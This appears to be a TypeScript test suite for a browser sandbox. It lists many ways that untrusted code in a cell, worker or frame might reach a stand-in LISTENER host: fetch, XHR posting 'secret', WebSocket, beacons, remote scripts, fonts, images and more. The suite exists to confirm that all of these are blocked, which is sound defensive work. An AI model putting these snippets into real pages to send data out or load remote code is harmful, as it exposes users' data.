/** Programs that call somebody: nothing may leave the page, by whatever way. */

import type { CaseGroup } from '../hostile-case.ts'
import { inFrame, inWorker, lookFor, type Wish } from './attempt.ts'

const FROM_A_CELL: readonly Wish[] = [
  ['fetch', `fetch('LISTENER/fetch')`],
  ['an XMLHttpRequest', `new XMLHttpRequest()`],
  ['a WebSocket', `new WebSocket('LISTENER_WS/socket')`],
  ['an EventSource', `new EventSource('LISTENER/events')`],
  ['importScripts', `importScripts('LISTENER/script.js')`],
  ['a worker of its own', `new Worker('LISTENER/worker.js')`],
  ['a shared worker', `new SharedWorker('LISTENER/worker.js')`],
  ['WebTransport', `new WebTransport('https://localhost:LISTENER_PORT/')`],
  ['WebRTC', `new RTCPeerConnection()`],
  ['a font face', `new FontFace('leak', 'url(LISTENER/font.woff2)')`],
  ['an image', `new Image()`],
  ['a beacon', `navigator.sendBeacon('LISTENER/beacon')`],
]

export const NETWORK: CaseGroup = {
  name: 'network',
  cases: [
    ...FROM_A_CELL.map(lookFor),
    inWorker('fetches', `return (await fetch('LISTENER/fetch')).status`),
    inWorker(
      'fetches without asking for an answer',
      `return (await fetch('LISTENER/fetch', { mode: 'no-cors', keepalive: true })).type`,
    ),
    inWorker('fetches from the site itself', `return (await fetch('SITE/leak/fetch')).status`),
    inWorker(
      'sends an XMLHttpRequest and waits',
      `const request = new XMLHttpRequest()
request.open('POST', 'LISTENER/xhr', false)
request.send('secret')
return request.status`,
    ),
    inWorker(
      'opens a WebSocket',
      `const socket = new WebSocket('LISTENER_WS/socket')
return event(socket, 'open').catch(tried)`,
    ),
    inWorker(
      'listens to an EventSource',
      `const source = new EventSource('LISTENER/events')
return event(source, 'open').catch(tried)`,
    ),
    inWorker('imports a remote script the old way', `importScripts('LISTENER/script.js')`),
    inWorker('imports a script of the site the old way', `importScripts('SITE/leak/script.js')`),
    inWorker('imports a remote module', `return Object.keys(await import('LISTENER/module.js'))`),
    inWorker(
      'starts a worker from a script of the site',
      `const worker = new Worker('SITE/leak/worker.js')
return event(worker, 'message')`,
    ),
    inWorker(
      'fetches from a worker within its worker',
      `const text = "fetch('LISTENER/nested').then(() => postMessage('out'), () => postMessage('in'))"
const worker = new Worker(trustedScript(URL.createObjectURL(new Blob([text]))))
const { data } = await new Promise((resolve) => { worker.onmessage = resolve })
if (data === 'in') throw new Error(data)
return data`,
    ),
    inWorker(
      'fetches from a worker made of a data address',
      `const worker = new Worker("data:text/javascript,fetch('LISTENER/data').then(() => postMessage('out'))")
return event(worker, 'message')`,
    ),
    inWorker(
      'opens a WebTransport session',
      `const transport = new WebTransport('https://localhost:LISTENER_PORT/')
return transport.ready.catch(tried)`,
    ),
    inWorker(
      'loads a font',
      `const font = new FontFace('leak', 'url(LISTENER/font.woff2)')
return font.load().catch(tried)`,
    ),
    {
      ...inWorker(
        'reports to an address on its way out',
        `addEventListener('error', () => fetch('LISTENER/late', { keepalive: true }))
setTimeout(() => { throw new Error('out') })
return tried()`,
      ),
      expects: { phase: 'stopped', problem: 'The run crashed.' },
    },
    inFrame('fetches from the frame', `return (await fetch('LISTENER/fetch')).status`),
    inFrame(
      'shows a picture',
      `const image = new Image()
image.src = 'LISTENER/image.png'
return event(image, 'load').catch(tried)`,
    ),
    inFrame(
      'sends a beacon',
      `if (navigator.sendBeacon('LISTENER/beacon', 'secret')) return tried()
throw new Error('not sent')`,
    ),
    inFrame(
      'adds a remote script',
      `const script = document.createElement('script')
script.src = 'LISTENER/script.js'
document.head.append(script)
return event(script, 'load')`,
    ),
    inFrame(
      'adds a remote style sheet',
      `const link = document.createElement('link')
link.rel = 'stylesheet'
link.href = 'LISTENER/style.css'
document.head.append(link)
return event(link, 'load').catch(tried)`,
    ),
    inFrame(
      'asks for a page in advance',
      `for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) {
  const link = document.createElement('link')
  Object.assign(link, { rel, href: 'LISTENER/' + rel, as: 'script' })
  document.head.append(link)
}
return tried()`,
    ),
    inFrame(
      'imports a remote style sheet into its own',
      `const style = document.createElement('style')
style.textContent = '@import url(LISTENER/import.css)'
document.head.append(style)
return tried()`,
    ),
    inFrame(
      'plays a remote sound',
      `const sound = new Audio('LISTENER/sound.mp3')
return sound.play().catch(tried)`,
    ),
  ],
}
